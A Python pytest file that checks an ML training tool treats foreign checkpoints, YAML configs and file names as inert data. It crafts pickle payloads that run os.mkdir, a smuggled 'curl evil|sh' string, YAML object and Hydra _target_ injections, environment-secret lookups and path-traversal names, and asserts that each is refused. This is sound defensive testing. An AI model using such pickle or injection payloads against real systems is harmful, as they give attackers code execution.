"""Files from others are read as data: whatever they hold, nothing runs, and nothing is written where they say."""

from __future__ import annotations

import io
import os
import pickle
import re
import shutil
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch

from lightning_modules.cli import main
from lightning_modules.comparing.records import read_comparison
from lightning_modules.config.compose import compose
from lightning_modules.config.registries import DATA
from lightning_modules.config.sweep_grid import compose_grid
from lightning_modules.launching.multi_process import train
from lightning_modules.launching.run_lock import LOCK, is_locked, locked
from lightning_modules.storage.atomic_files import (
    LONGEST_NAME,
    append,
    remove_drafts,
    safe_name,
    whole,
    write_json,
    write_text,
)
from lightning_modules.training.run_folder import find_run
from schemes import SCHEMES
from schemes.errors import SchemenetError

TINY = [
    "data=spirals", "data.train_size=64", "data.test_size=32", "architecture=mlp", "trainer.threads=1",
    "trainer.max_epochs=1", "trainer.checkpoint_every_n_steps=1", "logger=csv",
]  # fmt: skip


class Payload:
    """Pickled, it is an order to make a folder."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self.canary),)


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("own") / "run"
    train(compose("train", TINY), folder)
    return folder


@pytest.fixture
def canary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder that is made if a payload runs. The working directory is an empty one."""
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    return tmp_path / "canary"


def refused(command: list[str], capsys: pytest.CaptureFixture[str]) -> str:
    """The message of a command that is refused."""
    capsys.readouterr()
    status = main(command)
    told = capsys.readouterr().err
    assert status == 2, told
    assert told.startswith("schemenet: ")
    return told


def copied(run: Path, place: Path, change: Callable[[dict[str, Any]], Any]) -> Path:
    """A copy of a run whose checkpoint is changed."""
    shutil.copytree(run, place)
    checkpoint = torch.load(place / "last.ckpt", weights_only=True)
    change(checkpoint)
    torch.save(checkpoint, place / "last.ckpt")
    return place


def tar(canary: Path) -> bytes:
    """Torch's first format: three pickles in a tar."""
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w") as file:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            data = pickle.dumps(Payload(canary))
            info = tarfile.TarInfo(name)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return content.getvalue()


def archive(canary: Path, *names: str) -> bytes:
    """A zip as torch writes it, every pickle in it a payload; with constants and code it is TorchScript's."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as file:
        file.writestr("archive/version", "3\n")
        for name in names:
            file.writestr(f"archive/{name}", pickle.dumps({"hyper_parameters": Payload(canary)}, 2))
    return content.getvalue()


CRAFTED = {
    "pickle": lambda canary: pickle.dumps({"hyper_parameters": Payload(canary)}),
    "old pickle": lambda canary: pickle.dumps(Payload(canary), 2),
    "tar": tar,
    "zip": lambda canary: archive(canary, "data.pkl"),
    "TorchScript": lambda canary: archive(canary, "data.pkl", "constants.pkl", "code/__torch__.py"),
    "safetensors": lambda _: (2**62).to_bytes(8, "little") + b'{"__metadata__":{}}',
    "nothing": lambda _: b"",
    "text": lambda _: b"hello\n",
}


@pytest.mark.filterwarnings("ignore:Detected pickle protocol")
@pytest.mark.parametrize("kind", CRAFTED)
def test_a_crafted_checkpoint_is_a_message(kind: str, run: Path, canary: Path, capsys: Any) -> None:
    """Where it is evaluated, started from, drawn, and gone on from."""
    shutil.copytree(run, "run")
    Path("run/last.ckpt").write_bytes(CRAFTED[kind](canary))
    before = sorted(Path("run").iterdir())
    for command in (
        ["eval", "run"],
        ["eval", "run/last.ckpt"],
        ["train", *TINY, "start_from=run", "folder=new"],
        ["figure", "trajectories", "run"],
        ["figure", "error_control", "run"],
    ):
        assert "last.ckpt cannot be read as a checkpoint" in refused(command, capsys)
    assert sorted(Path("run").iterdir()) == before
    Path("run/result.json").unlink()
    assert "last.ckpt cannot be read" in refused(["train", *TINY, "folder=run"], capsys)
    assert not canary.exists()
    assert not Path("new").exists()


CHANGES: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
    "an instantiator": (
        lambda hyper: hyper.update(_instantiator="os.mkdir", path="../canary"),
        "describes no network.*_instantiator",
    ),
    "no options": (lambda hyper: hyper.pop("options"), "describes no network.*options"),
    "a function for a network": (lambda hyper: hyper.update(architecture="os.mkdir"), "no architecture 'os.mkdir'"),
    "a function for a scheme": (
        lambda hyper: hyper["config"].update(scheme={"name": "os.mkdir"}), "no scheme 'os.mkdir'",
    ),
    "words for numbers": (lambda hyper: hyper["data"].update(num_classes="two"), "num_classes expected a whole"),
    "a list for a config": (lambda hyper: hyper.update(config=[1]), "expected the config of a run, got list"),
    "no data": (lambda hyper: hyper["config"].pop("data"), "data: expected a mapping"),
    "data of no registry": (lambda hyper: hyper["config"]["data"].update(name="../../x"), "no data set '../../x'"),
    "a target": (
        lambda hyper: hyper["config"]["trainer"].update(_target_="os.mkdir"), "takes no '_target_'|_target_",
    ),
    "a name that is a list": (lambda hyper: hyper["config"]["architecture"].update(name=["os"]), "no architecture"),
    "a scheme with a dot": (lambda hyper: hyper["config"].update(scheme={"name": "schemes.errors"}), "no scheme"),
    "a seed": (lambda hyper: hyper["config"].update(seed="0"), "seed: expected a whole number"),
    "shell text for a module": (
        lambda hyper: hyper["config"].update(imports=["x\x1b]0;title\x07\x1b[2J; curl evil|sh"]),
        r"imports: expected names of modules, such as my_parts, got \['x\\x1b",
    ),
    "escape codes in a key": (
        lambda hyper: hyper["config"]["data"].update({"\x1b[2J\x07": 1}), r"takes no '\\x1b\[2J",
    ),
    "escape codes in a value": (lambda hyper: hyper.update(architecture="\x1b[2J\x07"), "no architecture"),
}  # fmt: skip


@pytest.mark.parametrize("what", CHANGES)
def test_a_foreign_config_names_nothing_beyond_the_registries(what: str, run: Path, canary: Path, capsys: Any) -> None:
    change, message = CHANGES[what]
    copied(run, Path("run"), lambda checkpoint: change(checkpoint["hyper_parameters"]))
    before = sorted(Path("run").iterdir())
    told = refused(["eval", "run"], capsys)
    assert re.search(message, told), told
    assert told.replace("\n", "").isprintable()
    refused(["figure", "trajectories", "run"], capsys)
    assert sorted(Path("run").iterdir()) == before
    assert not canary.exists()


def test_a_foreign_config_says_neither_where_to_write_nor_what_to_start(run: Path, canary: Path) -> None:
    """Evaluated, it is read but for its weights and its data: no logger, no download, no other folder."""

    def change(checkpoint: dict[str, Any]) -> None:
        config = checkpoint["hyper_parameters"]["config"]
        config |= {"folder": str(canary), "overwrite": True, "start_from": str(canary)}
        config["logger"] = {"name": "wandb", "project": "../../x", "mode": "online"}
        config["trainer"] |= {"strategy": "ddp_spawn", "devices": 7}

    copied(run, Path("run"), change)
    before = {path.name for path in Path("run").iterdir()}
    assert main(["eval", "run"]) == 0
    (written,) = {path.name for path in Path("run").iterdir()} - before
    assert re.fullmatch(r"eval-\w+-[0-9a-f]{8}\.json", written)
    assert os.listdir() == ["run"]
    assert not canary.exists()


@pytest.mark.parametrize("name", ["mnist", "fashion_mnist", "cifar10", "cifar100"])
def test_a_foreign_config_downloads_nothing(
    name: str, run: Path, canary: Path, capsys: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(DATA[name], "fetch", lambda _: canary.mkdir())
    data = {"name": name, "root": str(canary), "download": True}
    copied(run, Path("run"), lambda checkpoint: checkpoint["hyper_parameters"]["config"].update(data=data))
    assert "cannot be read" in refused(["eval", "run"], capsys)
    assert not canary.exists()


@pytest.mark.parametrize("name", ["cifar10", "cifar100"])
def test_crafted_pictures_are_not_unpickled(name: str, run: Path, canary: Path, tmp_path: Path, capsys: Any) -> None:
    """CIFAR's files are pickles; they are read only where they are the published ones."""
    for file in DATA.build(name).checksums():
        path = tmp_path / "data" / file
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(pickle.dumps(Payload(canary)))
    data = {"name": name, "root": str(tmp_path / "data")}
    copied(run, Path("run"), lambda checkpoint: checkpoint["hyper_parameters"]["config"].update(data=data))
    assert "is not the published file" in refused(["eval", "run"], capsys)
    assert not canary.exists()


STRANGE_STATES: dict[str, Callable[[dict[str, Any]], Any]] = {
    "no state of a run": lambda checkpoint: checkpoint.pop("resuming"),
    "metrics": lambda checkpoint: checkpoint["resuming"].update(metrics=["os.mkdir"]),
    "loops": lambda checkpoint: checkpoint.update(loops=["os.mkdir"]),
    "callbacks": lambda checkpoint: checkpoint.update(callbacks=["os.mkdir"]),
    "weights": lambda checkpoint: checkpoint.update(state_dict={"network": "os.mkdir"}),
}


@pytest.mark.parametrize("what", STRANGE_STATES)
def test_a_crafted_state_is_not_gone_on_from(what: str, run: Path, canary: Path, capsys: Any) -> None:
    copied(run, Path("run"), STRANGE_STATES[what])
    Path("run/result.json").unlink()
    assert "overwrite=true begins" in refused(["train", *TINY, "folder=run"], capsys)
    assert not canary.exists()


@pytest.mark.parametrize("text", ["", "[1]", '{"recipe": 1}', "[" * 100_000])
@pytest.mark.parametrize("name", ["result.json", "config.json"])
def test_half_a_file_is_no_result(text: str, name: str, run: Path, canary: Path, capsys: Any) -> None:
    """A run is done where its result says so, and goes on where the config is that of its checkpoint."""
    shutil.copytree(run, "run")
    Path("run/result.json").unlink()
    Path("run", name).write_text(text)
    if name == "config.json":
        assert "another recipe or seed" in refused(["train", *TINY, "folder=run"], capsys)
    else:
        held = find_run(Path("run"))
        assert held is not None
        assert not held.finished
    assert main(["eval", "run"]) == 0


# What others wrote in yaml


YAML = {
    "a python object": (
        "data: {root: !!python/object/apply:os.mkdir [../canary]}",
        "could not determine a constructor",
    ),
    "a target": ("trainer: {_target_: os.mkdir}", "_target_"),
    "Hydra's callbacks": ("hydra: {callbacks: {x: {_target_: os.mkdir, path: ../canary}}}\nseed: x", "seed"),
    "Hydra's search path": ("hydra: {searchpath: ['pkg://antigravity']}", "searchpath"),
    "the environment": ("logger: {project: '${oc.env:SECRET}'}", "is not resolved"),
    "the environment, hidden": ("a: oc.env\nstart_from: '${${a}:SECRET}'", "is not resolved"),
    "code in a value": ("start_from: '${oc.create:{a: 1}}'", "is not resolved"),
    "another folder": ("defaults: [../../outside]", "no key"),
    "NUL in a path": ('start_from: "a\\0b"', "no run folder"),
    "where to write": ("folder: ../canary", "folder is not read from it; say folder=... on the command line"),
    "what to delete": ("overwrite: true", "overwrite is not read from it"),
    "shell lines": (
        "launcher: {name: slurm, cluster: local, setup: [mkdir ../canary]}",
        "launcher is not read from it",
    ),
    "whose project": ("logger: {project: theirs}", "logger.project is not read from it; say logger.project=... on the"),
}


@pytest.mark.parametrize("what", YAML)
def test_a_foreign_yaml_runs_nothing(
    what: str, canary: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Any
) -> None:
    text, message = YAML[what]
    monkeypatch.setenv("SECRET", "hunter2")
    folder = tmp_path / "their config, [1]='2'" / "experiment"
    folder.mkdir(parents=True)
    (folder / "x.yaml").write_text(f"# @package _global_\n{text}\n")
    (tmp_path / "outside.yaml").write_text("seed: outside\n")
    told = refused(["train", *TINY, "experiment=x", "--config-dir", str(folder.parent)], capsys)
    assert message in told
    assert "hunter2" not in told
    assert "antigravity" not in sys.modules
    assert not canary.exists()
    assert os.listdir() == []


def test_a_key_may_name_another_key(tmp_path: Path) -> None:
    (tmp_path / "experiment").mkdir()
    (tmp_path / "experiment" / "x.yaml").write_text("# @package _global_\nstart_from: runs/${data.name}\n")
    assert compose("train", ["experiment=x"], str(tmp_path))["start_from"] == "runs/digits"


def test_the_file_of_a_launcher_that_the_command_line_names_says_what_is_run(tmp_path: Path) -> None:
    (tmp_path / "launcher").mkdir()
    (tmp_path / "launcher" / "lab.yaml").write_text("name: slurm\nsetup: [module load cuda]\n")
    assert compose("sweep", ["launcher=lab"], str(tmp_path))["launcher"]["setup"] == ["module load cuda"]


def test_the_file_of_a_logger_that_the_command_line_names_says_where_is_logged_to(tmp_path: Path) -> None:
    (tmp_path / "logger").mkdir()
    (tmp_path / "logger" / "lab.yaml").write_text("name: wandb\nentity: lab\n")
    assert compose("train", ["logger=lab", "logger.project=mine"], str(tmp_path))["logger"]["entity"] == "lab"
    (tmp_path / "experiment").mkdir()
    (tmp_path / "experiment" / "x.yaml").write_text("# @package _global_\ndefaults: [override /logger: lab]\n")
    assert compose("train", ["experiment=x", "logger=csv"], str(tmp_path))["logger"] == {"name": "csv"}
    with pytest.raises(SchemenetError, match=r"logger\.entity is not read from it; say logger\.entity=\.\.\. on the"):
        compose("train", ["experiment=x"], str(tmp_path))


def test_the_file_of_a_sweep_may_name_a_logger(tmp_path: Path) -> None:
    (tmp_path / "ours.yaml").write_text("scheme: [rk4, heun]\nlogger: csv\n")
    assert compose_grid([str(tmp_path / "ours.yaml")])[1]["heun"]["logger"] == {"name": "csv"}


@pytest.mark.parametrize("key", ["+folder", "folder@x", "++logger.project", "~launcher"])
def test_the_file_of_a_sweep_has_plain_keys(key: str, tmp_path: Path, capsys: Any) -> None:
    """By the signs of Hydra's grammar a key would be another word, and the same key."""
    (tmp_path / "theirs.yaml").write_text(f"scheme: [rk4, heun]\n'{key}': x\n")
    told = refused(["sweep", str(tmp_path / "theirs.yaml")], capsys)
    assert f"theirs.yaml: expected keys such as scheme or trainer.max_epochs, got {key!r}" in told


@pytest.mark.parametrize(
    "line",
    [
        "launcher: {setup: [mkdir ../canary]}", "launcher: slurm", "folder: x", "overwrite: 1",
        "logger: {project: theirs}", "logger.entity: them", "logger: {name: wandb, mode: online}",
    ],
)  # fmt: skip
def test_the_file_of_a_sweep_says_neither_what_is_run_nor_where_is_written(
    line: str, canary: Path, capsys: Any
) -> None:
    """Of several mistakes in a file this one is told alone: nobody should look for others in it."""
    Path("theirs.yaml").write_text(f"scheme: [rk4, heun]\n{line}\n")
    key = line.partition(":")[0]
    told = refused(["sweep", "theirs.yaml"], capsys)
    assert told.startswith("schemenet: theirs.yaml: a yaml file does not say what is run, and where is written or ")
    assert f"so {key}" in told
    assert not canary.exists()
    assert os.listdir() == ["theirs.yaml"]


@pytest.mark.parametrize(
    "word",
    [
        "experiment=../../etc/x", "experiment=/etc/x", "scheme=../scheme/rk4", "scheme=os.mkdir", "scheme=a/b",
        "data=.", "hydra.run.dir=x", "+hydra.callbacks.x._target_=os.mkdir", "scheme.name=schemes.errors",
        "data._target_=os.mkdir", "architecture.name=os", "trainer.__class__=x",
    ],
)  # fmt: skip
def test_words_of_the_command_line_name_what_is_known(word: str, canary: Path, capsys: Any) -> None:
    refused(["train", word, "folder=run"], capsys)
    assert os.listdir() == []


@pytest.mark.parametrize("name", ["antigravity", "os", "schemes.errors", "../schemes", "__init__"])
def test_a_registry_imports_nothing_by_name(name: str) -> None:
    SCHEMES.list()
    before = set(sys.modules)
    with pytest.raises(SchemenetError, match="no scheme"):
        SCHEMES.build({"name": name})
    assert set(sys.modules) == before


# Names and links


TEXTS = [
    "..", ".", "", "../../x", "/etc/passwd", "a/b", "a-b", "a b", "a\0b", "a\nb", ".hidden", "-rf", "--", "~", "ä",
    "a" * 121, "a" * 120 + "b", "A", "a", "k=/x", "k=-x", "\ud800", "con:", "*",
]  # fmt: skip


def test_names_stay_in_their_folder_and_apart() -> None:
    names = [safe_name(text) for text in TEXTS]
    assert all(re.fullmatch(r"[A-Za-z0-9_=][A-Za-z0-9_.=,+-]*", name) and len(name) <= LONGEST_NAME for name in names)
    assert len({name.lower() for name in names}) == len(TEXTS)
    kept = ["scheme=rk2,architecture.depth=20", "resnet-heun", "optimizer.lr=1e-05", "a" * 120, "seed0"]
    assert [safe_name(name) for name in kept] == kept


@pytest.mark.parametrize("name", ["../../own", "/etc", "", ".", "a/b"])
def test_a_comparison_reads_no_folder_but_its_own(name: str, tmp_path: Path) -> None:
    document = {"seeds": [0], "arms": [{"name": name}], "baseline": name}
    write_json(tmp_path / "comparison.json", document)
    with pytest.raises(SchemenetError, match="no name of a folder"):
        read_comparison(tmp_path)


def test_a_lock_empties_no_other_file(tmp_path: Path) -> None:
    (tmp_path / "mine").write_text("mine")
    (tmp_path / LOCK).symlink_to(tmp_path / "mine")
    assert not is_locked(tmp_path)
    with pytest.raises(OSError, match=re.escape(LOCK)), locked(tmp_path):
        pass
    assert (tmp_path / "mine").read_text() == "mine"


def test_nothing_is_written_through_a_link(tmp_path: Path) -> None:
    """Which a run folder from others may hold, under the very name that is written to."""
    mine = tmp_path / "mine"
    mine.write_text("mine")
    (tmp_path / "x.json").symlink_to(mine)
    write_text(tmp_path / "x.json", "theirs")
    assert mine.read_text() == "mine"
    assert (tmp_path / "x.json").read_text() == "theirs"
    assert not (tmp_path / "x.json").is_symlink()


def test_two_processes_that_write_one_file_have_drafts_of_their_own(tmp_path: Path) -> None:
    path = tmp_path / "x"
    with whole(path) as first, whole(path) as second:
        second.write(b"second")
        first.write(b"first")
    assert path.read_text() == "first"
    (tmp_path / "x.0123abcd.tmp").write_text("of a process that was killed")
    (tmp_path / "x.y.tmp").write_text("the user's own")
    remove_drafts(path)
    assert sorted(os.listdir(tmp_path)) == ["x", "x.y.tmp"]


def test_whole_or_not_at_all(tmp_path: Path) -> None:
    path = tmp_path / "x"
    write_text(path, "old")

    def fail(error: BaseException | type[BaseException]) -> None:
        with whole(path) as file:
            file.write(b"new")
            raise error

    for error in (KeyboardInterrupt, KeyError, OSError(28, "No space left on device")):
        with pytest.raises((KeyboardInterrupt, KeyError, SchemenetError)):
            fail(error)
        assert path.read_text() == "old"
        assert os.listdir(tmp_path) == ["x"]
    with pytest.raises(SchemenetError, match=r"cannot write .*missing/x: No such file"):
        append(tmp_path / "missing" / "x", "text")
